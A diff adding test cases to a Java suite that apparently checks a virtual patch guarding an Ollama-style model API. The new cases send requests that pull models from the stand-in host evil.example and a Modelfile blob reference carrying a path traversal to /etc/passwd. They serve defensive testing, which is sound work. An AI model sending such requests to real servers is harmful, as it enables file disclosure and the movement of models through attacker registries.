@@ -80,6 +80,16 @@ class VirtualPatchTest {
             "{\"model\":\"attacker.example/ns/m:tag\",\"from\":\"llama3\"}",
             "registry-allowlist"),
         Arguments.of(
+            "create from a model on a foreign registry (Ollama pulls it)",
+            "/api/create",
+            "{\"model\":\"mine\",\"from\":\"evil.example/ns/m\"}",
+            "registry-allowlist"),
+        Arguments.of(
+            "legacy FROM a model on a foreign registry",
+            "/api/create",
+            "{\"name\":\"mine\",\"modelfile\":\"FROM evil.example/ns/m:latest\"}",
+            "registry-allowlist"),
+        Arguments.of(
             "copy to a foreign registry",
             "/api/copy",
             "{\"source\":\"llama3\",\"destination\":\"attacker.example/ns/m\"}",
@@ -180,6 +190,11 @@ class VirtualPatchTest {
             "short digest in adapters",
             "/api/create",
             "{\"model\":\"x\",\"adapters\":{\"a.gguf\":\"sha256:0\"}}",
+            "manifest-digest-format"),
+        Arguments.of(
+            "malformed blob reference in a modelfile",
+            "/api/create",
+            "{\"name\":\"x\",\"modelfile\":\"FROM @sha256:../../etc/passwd\"}",
             "manifest-digest-format"),
         Arguments.of(
             "empty digest",
